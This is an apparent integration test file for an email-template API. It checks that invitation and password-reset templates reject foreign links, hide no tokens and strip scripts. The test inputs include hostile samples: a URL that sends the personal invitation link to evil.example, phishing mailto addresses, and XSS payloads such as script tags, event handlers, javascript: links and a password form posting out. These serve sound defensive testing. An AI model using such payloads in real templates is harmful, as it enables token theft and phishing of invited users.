import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventually, linkFrom, startHarness, type Harness } from './support/harness.js';

/** Editable templates (R6) through the API, with real invitations and mails at a real SMTP server. */
let h: Harness;
beforeAll(async () => {
  h = await startHarness({ config: { TEMPLATE_LINK_HOSTS: 'help.example.com, www.help.example.com' } });
});
afterAll(async () => h?.close());

const url = (type: string, locale = 'en', suffix = '') => `/api/v1/email-templates/${type}${suffix}?locale=${locale}`;
const put = (type: string, content: unknown, locale = 'en', actor = 'staff:anna') => h.api('PUT', url(type, locale), content, { 'x-actor': actor });

let invited = 0;
async function inviteAndCatch() {
  const username = `templ.user${++invited}`;
  const res = await h.api('POST', '/api/v1/invitations', { username, email: `${username}@example.com`, userType: 'member', locale: 'en' });
  expect(res.status).toBe(201);
  const mail = await h.mail.waitFor((m) => m.to.includes(`${username}@example.com`), 15_000);
  const row = await eventually(async () => {
    const found = await h.db.selectFrom('emails').selectAll().where('user_id', '=', res.body.user.id).executeTakeFirst();
    return found?.status === 'sent' && found;
  });
  return { user: res.body.user, mail, row };
}

const custom = {
  subject: 'Welcome to {{productName}}, {{username}}',
  body: '<p>Dear {{username}},</p>\n<p><a class="button" href="{{invitationLink}}">Join now</a></p>\n<p>Before {{expiresAt}}.</p>',
};

describe('the rules of a template', () => {
  it('a template without its link variable is refused with 422 naming it', async () => {
    const res = await put('user_invitation', { subject: 'Hello', body: '<p>Hello {{username}}, welcome!</p>' });
    expect(res.status).toBe(422);
    expect(res.headers.get('content-type')).toContain('application/problem+json');
    expect(res.body.errors).toEqual([{ field: 'body', message: expect.stringContaining('{{invitationLink}}') }]);
  });

  it('the personal link may stand only alone: inside another href or a mailto body it is refused, nothing is stored', async () => {
    const before = (await h.api('GET', url('user_invitation'))).body;
    for (const body of [
      '<p>Click <a class="button" href="https://evil.example/collect?t={{invitationLink}}">here</a></p>',
      '<p>{{invitationLink}} <a href="mailto:x@evil.example?body={{invitationLink}}">mail it</a></p>',
    ]) {
      const res = await put('user_invitation', { subject: 'Hi {{username}}', body });
      expect(res.status).toBe(422);
      expect(res.body.errors[0]).toMatchObject({ field: 'body', message: expect.stringContaining('may stand only alone') });
    }
    expect((await h.api('GET', url('user_invitation'))).body).toEqual(before);
  });

  it("the email log's link placeholder cannot be smuggled in with entities, and deep nesting is a 422, not a 500", async () => {
    const smuggled = await put('user_invitation', { subject: 'Hi', body: '<p>{{invitationLink}} &#123;&#123;personal_link}}</p>' });
    expect(smuggled.status).toBe(422);
    const deep = await h.api('POST', url('user_invitation', 'en', '/preview'), { subject: 'x', body: `<p>{{invitationLink}}</p>${'<b>'.repeat(5000)}` });
    expect(deep.status).toBe(422);
  });

  it('an unknown variable, or the link variable of another type, is refused with 422 naming it', async () => {
    const unknown = await put('user_invitation', { subject: 'Hi {{firstName}}', body: '<p>{{invitationLink}} {{companyName}}</p>' });
    expect(unknown.status).toBe(422);
    expect(unknown.body.errors).toEqual([
      { field: 'subject', message: expect.stringContaining('{{firstName}} is not a variable') },
      { field: 'body', message: expect.stringContaining('{{companyName}} is not a variable') },
    ]);
    const wrongLink = await put('password_reset', { subject: 'Reset', body: '<p><a href="{{invitationLink}}">reset</a></p>' });
    expect(wrongLink.status).toBe(422);
    expect(wrongLink.body.errors.map((e: { message: string }) => e.message).join(' ')).toMatch(/\{\{invitationLink\}\} belongs to .*\{\{resetLink\}\}/);
  });

  it('the link may not sit in the subject nor inside markup that sanitising removes', async () => {
    const inSubject = await put('user_invitation', { subject: 'Go to {{invitationLink}}', body: '<p>{{invitationLink}}</p>' });
    expect(inSubject.status).toBe(422);
    expect(inSubject.body.errors[0]).toMatchObject({ field: 'subject', message: expect.stringContaining('{{invitationLink}}') });
    const hidden = await put('user_invitation', { subject: 'Hi', body: '<p>Hi</p><script>location = "{{invitationLink}}"</script>' });
    expect(hidden.status).toBe(422);
    expect(hidden.body.errors[0]).toMatchObject({ field: 'body', message: expect.stringContaining('must stay in the mail') });
  });

  it('a body of the largest size built to make the variable pattern backtrack is answered, not left to hold the service (issue 15.1)', async () => {
    // `{{` and spaces: the old pattern took hours on this (the API shares the test's event loop,
    // so on the old code this test never got an answer).
    const unclosed = `{{${' '.repeat(20_000 - 2)}`;
    for (const res of [await put('user_invitation', { subject: 'Hi', body: unclosed }), await h.api('POST', url('user_invitation', 'en', '/preview'), { subject: 'Hi', body: unclosed })]) {
      expect(res.status).toBe(422);
      expect(res.body.errors).toEqual([{ field: 'body', message: expect.stringContaining('must contain the personal link') }]);
    }
    const withLink = `<p>{{invitationLink}}</p><p>{{${' '.repeat(20_000 - 34)}</p>`;
    expect(withLink.length).toBe(20_000);
    const preview = await h.api('POST', url('user_invitation', 'en', '/preview'), { subject: 'Hi', body: withLink });
    expect(preview.status).toBe(200);
    expect(preview.body.text).toContain('sample-token-for-preview');
  });

  it('a link to any host but PUBLIC_BASE_URL and TEMPLATE_LINK_HOSTS is refused with 422 naming it, however it is spelled (issue 15.6)', async () => {
    const before = (await h.api('GET', url('user_invitation'))).body;
    const join = '<p><a href="{{invitationLink}}">Join</a></p>';
    const foreign: Array<[body: string, named: string]> = [
      // The button elsewhere, and the real link's text wrapped in a foreign href.
      [`<p><a class="button" href="https://evil.example/login">Set password</a></p>${join}`, 'https://evil.example/login'],
      [`<p><a href="https://evil.example/x">{{invitationLink}}</a></p>${join}`, 'https://evil.example/x'],
      [`<p><a href="https://evil&#46;example/e">x</a></p>${join}`, 'https://evil.example/e'],
      [`<p><a href="https://localhost:3999@evil.example/u">x</a></p>${join}`, 'https://localhost:3999@evil.example/u'],
      [`<p><a href="http://localhost:4000/other-port">x</a></p>${join}`, 'http://localhost:4000/other-port'],
      [`<p><a href="/relative">x</a></p>${join}`, '/relative'],
      // Text that mail clients make clickable.
      [`<p>Sign in at https://evil.example/text.</p>${join}`, 'https://evil.example/text'],
      [`<p>Or www.evil.example/www</p>${join}`, 'www.evil.example/www'],
      // Replies: every address of a mailto counts.
      [`<p><a href="mailto:help@help.example.com,phish@evil.example">ask</a></p>${join}`, 'mailto:help@help.example.com,phish@evil.example'],
      [`<p><a href="mailto:help@help.example.com?cc=phish@evil.example">ask</a></p>${join}`, 'mailto:help@help.example.com?cc=phish@evil.example'],
    ];
    for (const [body, named] of foreign) {
      for (const res of [await put('user_invitation', { subject: 'Hi', body }), await h.api('POST', url('user_invitation', 'en', '/preview'), { subject: 'Hi', body })]) {
        expect(res.status, body).toBe(422);
        expect(res.headers.get('content-type')).toContain('application/problem+json');
        expect(res.body.errors, body).toEqual([{ field: 'body', message: expect.stringContaining(`"${named}"`) }]);
      }
    }
    const subject = await put('user_invitation', { subject: 'Go to https://evil.example/s', body: join });
    expect(subject.body.errors).toEqual([{ field: 'subject', message: expect.stringContaining('"https://evil.example/s"') }]);
    expect((await h.api('GET', url('user_invitation'))).body).toEqual(before);
  });

  it("links to PUBLIC_BASE_URL's origin and to the hosts of TEMPLATE_LINK_HOSTS are kept", async () => {
    const body =
      '<p><a class="button" href="{{invitationLink}}">Join</a> or read <a href="http://localhost:3999/help?a=1&amp;b=2">our help</a>, ' +
      '<a href="https://HELP.example.com:8443/faq">the FAQ</a>, https://help.example.com/text. And www.help.example.com/www, ' +
      'or <a href="mailto:support@help.example.com?cc=desk@localhost">write to us</a>.</p>';
    const saved = await put('user_invitation', { subject: 'Welcome, see https://help.example.com', body });
    expect(saved.body.errors ?? []).toEqual([]);
    expect(saved.status).toBe(200);
    expect(saved.body.body).toContain('href="https://HELP.example.com:8443/faq"');
    await h.api('DELETE', url('user_invitation'));
  });

  it('an unknown type is 404, an unknown locale or field 422', async () => {
    expect((await h.api('GET', url('newsletter'))).status).toBe(404);
    expect((await h.api('GET', url('user_invitation', 'fr'))).status).toBe(422);
    expect((await put('user_invitation', { ...custom, footer: 'x' })).status).toBe(422);
  });
});

describe('customising the invitation (R6)', () => {
  it('shows the built-in default, with its link variable, before anyone changed it', async () => {
    const res = await h.api('GET', url('invitation_reminder', 'de'));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ type: 'invitation_reminder', locale: 'de', isDefault: true, version: null, updatedBy: null });
    expect(res.body.subject).toBe('Erinnerung: Ihre Einladung zu {{productName}}');
    expect(res.body.body).toContain('href="{{invitationLink}}"');
    expect(res.body.variables).toEqual(['{{invitationLink}}', '{{username}}', '{{expiresAt}}', '{{productName}}']);
  });

  it('a script, an event handler or a javascript: link in a template never reaches a mail', async () => {
    const saved = await put('user_invitation', {
      subject: 'Hello {{username}}',
      body:
        '<script>alert("s")</script><p onclick="alert(\'c\')" style="x:expression(alert(1))">Hi {{username}} ' +
        '<a href="javascript:alert(\'j\')">win</a> <a href="{{invitationLink}}" onmouseover="alert(\'m\')">Join</a></p>' +
        '<img src="x" onerror="alert(\'i\')"><iframe src="https://evil.example/"></iframe>' +
        '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
    });
    expect(saved.status).toBe(200);
    expect(saved.body.sanitized).toBe(true);
    const { mail, row } = await inviteAndCatch();
    for (const html of [mail.html, row.html_redacted, saved.body.body]) {
      expect(html).not.toMatch(/<script|onclick|onmouseover|onerror|javascript:|<iframe|<form|<input|<img|expression\(|evil\.example/i);
    }
    const link = linkFrom(mail.text);
    expect(mail.html).toContain(`href="${link.url}"`);
    expect(mail.text).toContain('Hi templ.user');
    await h.api('DELETE', url('user_invitation'));
  });

  it('is used for the next invitation, the mail records its version, and a later edit changes nothing in the logged mail', async () => {
    const saved = await put('user_invitation', custom);
    expect(saved.status).toBe(200);
    const version = saved.body.version as number;
    expect(saved.body).toMatchObject({ isDefault: false, subject: custom.subject, updatedBy: 'staff:anna' });

    const { user, mail, row } = await inviteAndCatch();
    expect(mail.subject).toBe(`Welcome to Platform, ${user.username}`);
    const link = linkFrom(mail.text);
    expect(mail.text).toContain(`Dear ${user.username},`);
    expect(mail.html).toContain(`href="${link.url}"`);
    expect(mail.html).toContain('background-color:#1d4ed8'); // the layout's button, like the built-in mails
    expect(mail.html).toContain('max-width:560px'); // inside the React Email frame
    expect(row.template_version).toBe(version);

    const edited = await put('user_invitation', { subject: 'Changed {{username}}', body: '<p>Changed: {{invitationLink}}</p>' });
    expect(edited.body.version).toBe(version + 1);
    const after = await h.db.selectFrom('emails').selectAll().where('id', '=', row.id).executeTakeFirstOrThrow();
    expect(after).toMatchObject({ subject: row.subject, html_redacted: row.html_redacted, text_redacted: row.text_redacted, template_version: version });
    expect((await h.api('GET', `/api/v1/emails/${row.id}`)).body).toMatchObject({ templateVersion: version, subject: mail.subject });

    // An exact copy (R7) after the edit is the first mail, byte for byte: nothing re-renders.
    const resent = await h.api('POST', `/api/v1/emails/${row.id}/resend`);
    expect(resent.status).toBe(202);
    const copies = () => h.mail.messages().filter((m) => m.to.includes(`${user.username}@example.com`));
    const copy = await eventually(async () => copies().length === 2 && copies()[0]);
    expect({ subject: copy.subject, html: copy.html, text: copy.text }).toEqual({ subject: mail.subject, html: mail.html, text: mail.text });
    const copyRow = await h.db.selectFrom('emails').selectAll().where('resent_from', '=', row.id).executeTakeFirstOrThrow();
    expect(copyRow.template_version).toBe(version);

    const next = await inviteAndCatch();
    expect(next.mail.subject).toBe(`Changed ${next.user.username}`);
    expect(next.row.template_version).toBe(version + 1);
  });

  it('DELETE goes back to the built-in default, as a new version, and the next mail is the built-in one', async () => {
    await put('user_invitation', custom);
    const before = await h.api('GET', url('user_invitation'));
    const res = await h.api('DELETE', url('user_invitation'), undefined, { 'x-actor': 'staff:bert' });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ isDefault: true, version: before.body.version + 1, updatedBy: 'staff:bert', subject: 'Your invitation to {{productName}}' });
    expect((await h.api('GET', url('user_invitation'))).body).toMatchObject({ isDefault: true, version: before.body.version + 1 });

    const { mail, row } = await inviteAndCatch();
    expect(mail.subject).toBe('Your invitation to Platform');
    expect(mail.text).toContain('Set password');
    expect(row.template_version).toBeNull();
  });

  it('lists every version with who and when, newest first, per locale', async () => {
    await put('password_reset', { subject: 'Reset {{productName}}', body: '<p>{{resetLink}}</p>' }, 'de', 'staff:carla');
    await put('password_reset', { subject: 'Neu: {{productName}}', body: '<p><a href="{{resetLink}}">Neues Passwort</a></p>' }, 'de', 'staff:dora');
    await h.api('DELETE', url('password_reset', 'de'), undefined, { 'x-actor': 'staff:emil' });
    const res = await h.api('GET', url('password_reset', 'de', '/versions'));
    expect(res.status).toBe(200);
    expect(res.body.items.map((v: { version: number; createdBy: string; isDefault: boolean }) => [v.version, v.createdBy, v.isDefault])).toEqual([
      [3, 'staff:emil', true],
      [2, 'staff:dora', false],
      [1, 'staff:carla', false],
    ]);
    for (const item of res.body.items) expect(Math.abs(Date.parse(item.createdAt) - Date.now())).toBeLessThan(5 * 60_000);
    expect(res.body.items[1]).toMatchObject({ subject: 'Neu: {{productName}}', body: '<p><a href="{{resetLink}}">Neues Passwort</a></p>' });
    expect((await h.api('GET', url('password_reset', 'en', '/versions'))).body.items).toEqual([]);
  });
});

describe('previewing a template', () => {
  it('renders the template in force with sample data, html and text', async () => {
    const res = await h.api('POST', url('password_reset', 'en', '/preview'));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ subject: 'Reset your Platform password', draft: false, isDefault: true });
    const sample = 'http://localhost:3999/password/reset?lang=en#token=sample-token-for-preview';
    expect(res.body.html).toContain(`href="${sample}"`);
    expect(res.body.text).toContain(sample);
    expect(res.body.text).toContain('Hello erika.mustermann,');
  });

  it('renders a draft before it is saved, and refuses a draft without the link', async () => {
    const draft = { subject: 'Soon: {{productName}}', body: '<h2>Hi {{username}}</h2><p><a class="button" href="{{invitationLink}}">Go</a> before {{expiresAt}}</p>' };
    const res = await h.api('POST', url('invitation_reminder', 'de', '/preview'), draft);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ subject: 'Soon: Platform', draft: true, version: null });
    expect(res.body.html).toContain('Hi erika.mustermann</h2>');
    expect(res.body.text).toContain('http://localhost:3999/invitations/accept?lang=de#token=sample-token-for-preview');
    expect(res.body.text).toMatch(/before \d+\. \w+ \d{4} um \d\d:\d\d/);
    expect((await h.api('GET', url('invitation_reminder', 'de'))).body.isDefault).toBe(true); // nothing saved

    const bad = await h.api('POST', url('invitation_reminder', 'de', '/preview'), { subject: 'x', body: '<p>no link</p>' });
    expect(bad.status).toBe(422);
    expect(bad.body.errors[0].message).toContain('{{invitationLink}}');
  });
});
